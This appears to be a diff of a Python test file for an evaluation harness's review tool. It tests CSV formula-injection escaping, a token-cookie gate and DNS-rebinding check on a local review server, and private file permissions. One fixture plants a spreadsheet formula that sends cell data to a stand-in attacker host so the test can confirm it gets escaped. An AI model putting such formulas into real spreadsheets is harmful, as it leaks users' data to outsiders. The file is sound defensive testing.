@@ -13,17 +13,21 @@ import re
 import urllib.error
 import urllib.parse
 import urllib.request
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 from pathlib import Path
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from eval_harness.cli.decodeleak import main
-from eval_harness.construction.review import ReviewLog, export_csv, import_csv, marked, segments
+from eval_harness.construction.review import (ReviewLog, escape_formula, export_csv, import_csv, marked,
+                                              segments, unescape_formula)
 from eval_harness.construction.review_server import ReviewServer
 
 from tests.browser import headless_chromium
 from tests.construction_sources import clean, fixed_judge, medqa_record, shipped, spans_of, write_by_split
+
 
 @pytest.fixture
 def build(tmp_path: Path) -> tuple[Path, list[dict]]:
@@ -133,26 +137,142 @@ def request(url: str, *, body: object = None, headers: dict | None = None) -> tu
         return error.code, json.loads(error.read())
 
 
+@pytest.mark.parametrize(("cell", "escaped"), [
+    ("=HYPERLINK(\"http://x\")", "'=HYPERLINK(\"http://x\")"), ("+1", "'+1"), ("-5 mg", "'-5 mg"),
+    ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"), ("'quoted", "''quoted"),
+    ("fever, =x", "fever, =x"), ("", "")])
+def test_a_cell_a_spreadsheet_would_run_is_escaped(cell: str, escaped: str) -> None:
+    assert escape_formula(cell) == escaped
+    assert unescape_formula(escaped) == cell
+    assert unescape_formula("=x") == "=x"  # as a spreadsheet saves the cell it showed: unchanged
+
+
+@given(st.text(max_size=12))
+def test_escaping_a_cell_round_trips_and_never_leaves_a_formula(cell: str) -> None:
+    assert unescape_formula(escape_formula(cell)) == cell
+    assert not escape_formula(cell).startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+def test_the_csv_holds_no_live_formula_and_reads_escaped_cells_back(build: tuple[Path, list[dict]], tmp_path: Path,
+                                                                   monkeypatch: pytest.MonkeyPatch) -> None:
+    """Before, a rationale or context starting with ``=`` was a live formula in the exported sheet; an escaped span
+    came back with its quote; a field over 128 KiB crashed the import with a raw csv traceback."""
+    out, rows = build
+    row = rows[0]
+    # the judge's rationale and the item's context start with what a spreadsheet runs
+    extraction = [json.loads(line) for line in (out / "extraction.jsonl").read_text().splitlines()]
+    for entry in extraction:
+        entry["detail"] = '=HYPERLINK("http://attacker.example/?"&C2)'
+    (out / "extraction.jsonl").write_text("".join(json.dumps(e) + "\n" for e in extraction))
+    items = [json.loads(line) for line in (out / "items.jsonl").read_text().splitlines()]
+    items[0]["private_context"] = "@home " + items[0]["private_context"]
+    (out / "items.jsonl").write_text("".join(json.dumps(i) + "\n" for i in items))
+    sheet = tmp_path / "review.csv"
+    export_csv(ReviewLog(out), sheet)
+    with sheet.open(newline="") as data:
+        lines = list(csv.DictReader(data))
+    assert all(line["judge_rationale"] == "'" + extraction[0]["detail"] for line in lines)
+    assert lines[0]["marked_private_context"].startswith("'@home ")
+    assert not any(cell.startswith(("=", "+", "-", "@")) for line in lines for cell in line.values())
+    # a person adds the span "@home": the escaped cell (as written back) and the bare one both mean "@home"
+    for cell in ("'@home, " + lines[0]["spans"], "@home, " + lines[0]["spans"]):
+        lines[0]["spans"] = cell
+        with sheet.open("w", newline="") as data:
+            writer = csv.DictWriter(data, fieldnames=list(lines[0]))
+            writer.writeheader()
+            writer.writerows(lines)
+        import_csv(ReviewLog(out), sheet)
+        assert decisions(out)[-1]["spans"] == ["@home", *spans_of(row)]
+        lines[0]["spans"] = ", ".join(spans_of(row))
+    # a long field (a private context over the csv module's 128 KiB default) is read ...
+    lines[1]["marked_private_context"] = "x" * 200_000
+    with sheet.open("w", newline="") as data:
+        writer = csv.DictWriter(data, fieldnames=list(lines[0]))
+        writer.writeheader()
+        writer.writerows(lines)
+    import_csv(ReviewLog(out), sheet)
+    # ... and one over the limit is a one-line error, not a traceback, and leaves the limit as it was
+    monkeypatch.setattr("eval_harness.construction.review.CSV_FIELD_LIMIT", 100_000)
+    before = csv.field_size_limit()
+    with pytest.raises(ValueError, match=r"not a readable CSV .*at most 100000 characters"):
+        import_csv(ReviewLog(out), sheet)
+    assert csv.field_size_limit() == before
+    assert main(["review", str(out), "--import-csv", str(sheet)]) == 1
+
+
+def credentialed(server: ReviewServer) -> Callable[..., tuple[int, dict]]:
+    """:func:`request` with the run's secret in the page's cookie, as the browser sends it once the URL was opened."""
+    def send(url: str, *, body: object = None, headers: dict | None = None) -> tuple[int, dict]:
+        return request(url, body=body, headers={"Cookie": f"{server.cookie_name}={server.token}", **(headers or {})})
+    return send
+
+
+def test_the_page_answers_only_a_request_that_carries_the_runs_secret(build: tuple[Path, list[dict]]) -> None:
+    out, rows = build
+    server = ReviewServer(out).start()
+    base = f"http://127.0.0.1:{server.port}/"
+    item = base + "api/items/" + urllib.parse.quote(rows[0]["_id"])
+    try:
+        # another local process, with no secret or a wrong one: no private context, no decision, not the page
+        for headers in ({}, {"Cookie": f"{server.cookie_name}=not-the-secret"},
+                        {"Cookie": f"{server.cookie_name}={server.token[:-1]}"}, {"Cookie": "garbage=="}):
+            status, reply = request(base + "api/items", headers=headers)
+            assert status == 403 and "items" not in reply, headers
+            assert request(item, body={"status": "rejected", "spans": []}, headers=headers)[0] == 403
+            assert request(base + "api/items?token=wrong", headers=headers)[0] == 403
+            assert _status(base, headers) == 403
+        assert decisions(out) == []
+        # the printed address: the secret in the URL becomes an HttpOnly same-site cookie and a redirect without it
+        assert server.url == f"{base}?token={server.token}" and len(server.token) >= 40
+        parsed = urllib.parse.urlsplit(server.url)
+        connection = http.client.HTTPConnection(parsed.hostname, parsed.port, timeout=10)
+        connection.request("GET", f"{parsed.path}?{parsed.query}")
+        response = connection.getresponse()
+        response.read()
+        connection.close()
+        assert response.status == 303 and response.getheader("Location") == "/"
+        cookie = response.getheader("Set-Cookie")
+        assert cookie.startswith(f"{server.cookie_name}={server.token};")
+        assert "HttpOnly" in cookie and "SameSite=Strict" in cookie
+        # with the cookie: read and decide
+        status, listing = credentialed(server)(base + "api/items")
+        assert status == 200 and [entry["id"] for entry in listing["items"]] == [row["_id"] for row in rows]
+        assert credentialed(server)(item, body={"status": "rejected", "spans": []})[0] == 200
+        assert [d["status"] for d in decisions(out)] == ["rejected"]
+    finally:
+        server.close()
+
+
+def _status(url: str, headers: dict) -> int:
+    try:
+        with urllib.request.urlopen(urllib.request.Request(url, headers=headers), timeout=10) as response:
+            return response.status
+    except urllib.error.HTTPError as error:
+        return error.code
+
+
 def test_the_page_api_refuses_what_it_must(build) -> None:  # noqa: ANN001
     out, rows = build
     server = ReviewServer(out).start()
+    request = credentialed(server)
     try:
-        status, listing = request(server.url + "api/items")
+        status, listing = request(server.base_url + "api/items")
         assert status == 200 and [item["id"] for item in listing["items"]] == [row["_id"] for row in rows]
         first = listing["items"][0]
         assert "".join(segment["text"] for segment in first["segments"]) == rows[0]["private_context"]
         assert {s["text"] for s in first["segments"] if s["span"] is not None} == set(spans_of(rows[0]))
-        url = server.url + "api/items/" + rows[0]["_id"]
+        url = server.base_url + "api/items/" + rows[0]["_id"]
         assert request(url, body={"status": "accepted", "spans": ["nowhere"]})[0] == 400
         assert request(url, body={"status": "accepted", "spans": "x"})[1] == {
             "error": "spans must be a list of strings"}
-        assert request(server.url + "api/items/no-such-item", body={"status": "rejected", "spans": []})[0] == 404
+        assert request(server.base_url + "api/items/no-such-item", body={"status": "rejected", "spans": []})[0] == 404
         assert request(url, body={"status": "rejected", "spans": []}, headers={"Content-Type": "text/plain"})[0] == 415
         for length in ("abc", "-5"):  # not a byte count: refused, and the server goes on answering
             parsed = urllib.parse.urlsplit(url)
             connection = http.client.HTTPConnection(parsed.hostname, parsed.port, timeout=10)
             connection.putrequest("POST", parsed.path)
             connection.putheader("Content-Type", "application/json")
+            connection.putheader("Cookie", f"{server.cookie_name}={server.token}")
             connection.putheader("Content-Length", length)
             connection.endheaders()
             response = connection.getresponse()
@@ -160,7 +280,7 @@ def test_the_page_api_refuses_what_it_must(build) -> None:  # noqa: ANN001
                 "error": "Content-Length is not a byte count"}), length
             connection.close()
         # a page of another origin that resolved its name to this address (DNS rebinding) is not answered
-        assert request(server.url + "api/items", headers={"Host": "attacker.example:80"})[0] == 403
+        assert request(server.base_url + "api/items", headers={"Host": "attacker.example:80"})[0] == 403
         assert decisions(out) == []
         status, reply = request(url, body={"status": "rejected", "spans": []})
         assert status == 200 and reply["item"]["status"] == "rejected" and reply["counts"]["rejected"] == 1
@@ -274,3 +394,40 @@ def test_the_review_page_in_a_real_browser(build, browser, tmp_path: Path) -> No
              (out / "final" / "reviewed.jsonl").read_text().splitlines()}
     assert final == {second["_id"]: {**second, "filtered_context": ", ".join(edited)},
                      third["_id"]: {**third, "filtered_context": ", ".join([*spans_of(third), word])}}
+
+
+def test_the_browser_is_opened_on_a_file_only_this_user_reads_not_on_the_secret() -> None:
+    from eval_harness.cli.review import _redirect_file
+
+    url = "http://127.0.0.1:1/?token=s3cret"
+    path = _redirect_file(url)
+    try:
+        assert path.stat().st_mode & 0o777 == 0o600 and path.parent.stat().st_mode & 0o777 == 0o700
+        assert 'content="0;url=http://127.0.0.1:1/?token=s3cret"' in path.read_text()
+    finally:
+        path.unlink()
+        path.parent.rmdir()
+
+
+def test_every_file_of_a_build_review_and_finalize_is_private(build: tuple[Path, list[dict]], tmp_path: Path) -> None:
+    """Before, the build's outputs, review.jsonl, the review CSV and final/ (private contexts, spans) were 0644."""
+    import os
+
+    out, rows = build  # built under the umask of the test run
+    previous = os.umask(0o022)
+    try:
+        log = ReviewLog(out)
+        log.decide(rows[0]["_id"], "accepted", spans_of(rows[0]))
+        export_csv(log, tmp_path / "sheets" / "review.csv")
+        assert main(["finalize", str(out), "--name", "mine"]) == 0
+    finally:
+        os.umask(previous)
+    files = [path for path in out.rglob("*") if path.is_file()] + [tmp_path / "sheets" / "review.csv"]
+    names = {path.name for path in files}
+    assert {"build.json", "items.jsonl", "screening.jsonl", "extraction.jsonl", "summary.json", "review.jsonl",
+            "mine.jsonl", "attributes.md", "attributes.csv", "review.csv"} <= names
+    assert any(name.endswith(".png") for name in names)
+    assert {path.name: path.stat().st_mode & 0o777 for path in files} == dict.fromkeys(names, 0o600)
+    folders = [out, out / "final", tmp_path / "sheets"]
+    assert {folder.name: folder.stat().st_mode & 0o777 for folder in folders} == {
+        folder.name: 0o700 for folder in folders}
